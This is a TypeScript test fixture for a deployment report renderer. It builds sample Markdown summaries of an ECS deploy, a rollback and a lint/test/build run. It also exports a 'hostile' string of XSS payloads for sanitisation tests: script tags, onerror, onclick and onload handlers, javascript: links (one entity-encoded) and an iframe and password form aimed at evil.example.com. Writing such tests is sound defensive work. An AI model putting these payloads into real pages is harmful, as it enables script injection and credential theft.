import { type Report, renderMarkdown } from '../../../../src/report/index.ts'

const digest = `sha256:${'4f1c'.repeat(16)}`

/** Summaries as the actions write them: through the report's own renderer. */
export function deployed(version: string, environment: string): string {
  return renderMarkdown(
    deploy('success', 'succeeded', environment, {
      happened: `core ${version} serves ${environment}: deployed to ${environment}/core in 7.4 s.`,
      impact:
        'All production traffic goes to this version. ECS says SUCCESSFUL, and the revision, the image digest and the listener’s weights agree.',
    }),
  )
}

export function rolledBack(
  version: string,
  environment: string,
  reason: string,
  log: readonly string[],
): string {
  return renderMarkdown(
    deploy('failure', 'rolled-back', environment, {
      happened: `core ${version} was rolled back in ${environment}: ${reason}.`,
      impact: 'Users are served by the version before, as they were.',
      next: [
        'Read why below: the failing check, the stopped tasks and their last log lines.',
        'Push a fix. The next release deploys again; nothing has to be cleaned up.',
      ],
      log,
    }),
  )
}

function deploy(
  status: Report['status'],
  outcome: string,
  environment: string,
  story: {
    readonly happened: string
    readonly impact: string
    readonly next?: readonly string[]
    readonly log?: readonly string[]
  },
): Report {
  return {
    kind: 'deploy-ecs',
    status,
    outcome,
    module: 'core',
    environment,
    happened: story.happened,
    impact: story.impact,
    ...(story.next === undefined ? {} : { next: story.next }),
    evidence: [
      ...(story.log === undefined ? [] : [{ type: 'code' as const, text: story.log.join('\n') }]),
      {
        type: 'table',
        head: ['', ''],
        rows: [
          ['commit', { code: 'f3a9c1d2e4b5a6978877665544332211ffeeddcc' }],
          ['image', { code: `core@${digest}` }],
          ['strategy', environment === 'production' ? 'canary, 10 % a step' : 'blue-green'],
          ['service deployment', { code: 'core/NCWGC2ZR7ABCDEFGH' }],
        ],
      },
      {
        type: 'details',
        summary: 'What happened when (6 steps)',
        blocks: [
          {
            type: 'code',
            text: [
              '+   120 ms  RECONCILE_SERVICE',
              '+    1.2 s  PRE_SCALE_UP',
              '+    2.9 s  POST_TEST_TRAFFIC_SHIFT: paused for the smoke test',
              '+    4.1 s  PRODUCTION_TRAFFIC_SHIFT',
              '+    6.8 s  BAKE_TIME',
              '+    7.4 s  CLEAN_UP',
            ].join('\n'),
          },
        ],
      },
    ],
  }
}

export function checked(): string {
  return renderMarkdown({
    kind: 'lint-test-build',
    status: 'success',
    outcome: 'passed',
    module: 'core',
    happened: 'lint, test, build and migrations passed in 9.8 s.',
    evidence: [
      {
        type: 'table',
        head: ['task', 'result', 'took', 'tests'],
        rows: [
          ['lint', 'passed', '2.1 s', ''],
          ['test', 'passed', '6.4 s', '212 passed, 3 skipped'],
          ['build', 'passed', '3.3 s', ''],
          ['migrations', 'passed', '0.9 s', ''],
        ],
      },
    ],
  })
}

/** What nobody wrote on purpose but logs contain: markup, handlers, unclosed elements, addresses to load. */
export const hostile = `## Hostile <img src=x onerror="document.title='owned'"> heading

<script>document.title = 'owned'</script>
<style>body { display: none }</style>
<div onclick="alert(1)" style="position:fixed;inset:0;background:red">a box</div>

[a link](javascript:alert(1)) and <a href="javascript:alert(2)">another</a> and <a href=" &#106;avascript:alert(3)">a third</a>

![pixel](https://tracker.example.com/pixel.png) <iframe src="https://evil.example.com"></iframe>
<svg onload="alert(4)"><script>alert(5)</script></svg>
<form action="https://evil.example.com"><input name="password"><button>send</button></form>
<h2 id="scenarios">an id of the page</h2>

| column | ${'very-wide-column-'.repeat(12)} |
| --- | ---: |
| \`a\\|b\` | ${'x'.repeat(300)} |

> [!CAUTION]
> An alert with <b onclick="alert(6)">markup</b>.

- [x] done
- [ ] not done

<details><summary>never closed

<table><tr><td>never closed either </div></details></section></main></body></html>`
